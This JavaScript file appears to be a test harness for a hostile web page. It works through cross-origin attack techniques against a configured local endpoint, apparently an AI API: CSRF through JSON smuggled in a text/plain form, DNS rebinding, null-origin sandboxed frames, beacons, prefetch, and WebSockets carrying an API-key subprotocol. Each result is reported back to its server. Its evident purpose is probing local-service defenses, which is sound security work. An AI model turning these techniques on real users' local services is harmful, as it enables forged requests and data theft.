// A hostile page. It asks its own server what to try, tries one thing after the other, tells what it could see of each;
// the first one opens the other sites. Whether something got through is not decided here: a page cannot see what it sent blindly.
'use strict'

/** How long a try may take that gives no sign, in milliseconds. */
const patience = 2500

const sleep = (time) => new Promise((resolve) => setTimeout(resolve, time))

async function read(answer) {
  return { type: answer.type, status: answer.status, headers: [...answer.headers], body: await answer.text() }
}

function element(tag, url) {
  return new Promise((resolve) => {
    const e = document.createElement(tag)
    e.onload = () => resolve('loaded')
    e.onerror = () => resolve('failed')
    e.src = url
    document.body.append(e)
  })
}

/** A form's text/plain body can be JSON: the = between name and value lies in a string. */
function form(url, body, target) {
  const f = document.createElement('form')
  Object.assign(f, { method: 'POST', action: url, target, enctype: 'text/plain' })
  const field = document.createElement('input')
  Object.assign(field, { name: body.slice(0, -1) + ',"a":"', value: '"}' })
  f.append(field)
  document.body.append(f)
  f.submit()
}

/** What a window of another origin lets us read: nothing, unless its content counts as ours. */
function look(w) {
  try {
    return w.document.documentElement.textContent
  } catch (error) {
    return String(error)
  }
}

async function inWindow(w) {
  await sleep(patience)
  const seen = look(w)
  w?.close?.()
  return seen
}

const ways = {
  fetch: async (url, { body }) =>
    read(
      await fetch(url, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json', Authorization: 'Bearer oaklock' },
        body,
      }),
    ),
  'no-cors': async (url, { body }) => read(await fetch(url, { method: 'POST', mode: 'no-cors', body })),
  beacon: async (url, { body }) => {
    const taken = navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' }))
    await sleep(patience)
    return taken
  },
  form: async (url, { body }) => {
    const frame = document.createElement('iframe')
    frame.name = 'answer'
    document.body.append(frame)
    form(url, body, 'answer')
    await sleep(patience)
    return look(frame.contentWindow)
  },
  'form-tab': async (url, { body }) => {
    const w = window.open('about:blank', 'tab')
    form(url, body, 'tab')
    return inWindow(w)
  },
  open: (url) => inWindow(window.open(url)),
  rebind: (url, { endpoint, rebound }) => inWindow(window.open(url.replace(endpoint, rebound))),
  frame: async (url) => {
    await element('iframe', url)
    return look(document.body.lastChild.contentWindow)
  },
  image: (url) => element('img', url),
  script: (url) => element('script', url),
  prefetch: async (url) => {
    const link = document.createElement('link')
    Object.assign(link, { rel: 'prefetch', href: url })
    const rules = document.createElement('script')
    rules.type = 'speculationrules'
    rules.textContent = JSON.stringify({ prefetch: [{ urls: [url], eagerness: 'immediate' }], prerender: [{ urls: [url] }] })
    document.head.append(link, rules)
    await sleep(patience)
    return 'tried'
  },
  'null-frame': (url, { body }) =>
    new Promise((resolve) => {
      addEventListener('message', (event) => resolve(event.data), { once: true })
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', 'allow-scripts')
      frame.allow = 'loopback-network; local-network-access'
      const init = JSON.stringify({ method: 'POST', headers: { 'Content-Type': 'application/json' }, body })
      frame.srcdoc = `<script>fetch(${JSON.stringify(url)}, ${init})
        .then((r) => r.text(), String).then((seen) => parent.postMessage(seen, '*'))</script>`
      document.body.append(frame)
    }),
  websocket: (url) =>
    new Promise((resolve) => {
      const socket = new WebSocket(url.replace('http', 'ws'), ['realtime', 'openai-insecure-api-key.oaklock'])
      const seen = []
      socket.onopen = () => seen.push('opened')
      socket.onmessage = (event) => seen.push(event.data)
      socket.onclose = (event) => resolve([...seen, event.code, event.reason])
      setTimeout(() => socket.close(), patience)
    }),
  events: (url) =>
    new Promise((resolve) => {
      const source = new EventSource(url)
      source.onmessage = (event) => resolve(event.data)
      source.onerror = () => {
        source.close()
        resolve('failed')
      }
    }),
}

async function run() {
  const plan = await (await fetch('/plan')).json()
  for (const one of plan.tries) {
    // An asked user may take a while; what gives no sign at all ends later than the slowest answer.
    const tried = ways[one.do](plan.endpoint + one.path, plan).catch(String)
    const seen = await Promise.race([tried, sleep(4 * patience).then(() => 'no sign')])
    await fetch('/seen', { method: 'POST', body: JSON.stringify(seen) ?? '' })
  }
  if (plan.first) await openOthers()
}

/** Opens the other sites, each in a tab of its own. A browser may refuse to open one. */
async function openOthers() {
  const turn = async () => (await fetch('/turn')).json()
  for (let site = await turn(); site; ) {
    const tab = window.open(site)
    let now = site
    for (const end = Date.now() + 20_000; now === site && Date.now() < end; now = await turn()) await sleep(200)
    if (now === site) await fetch('/skip', { method: 'POST' })
    tab?.close()
    site = await turn()
  }
}

addEventListener('load', () => void run())
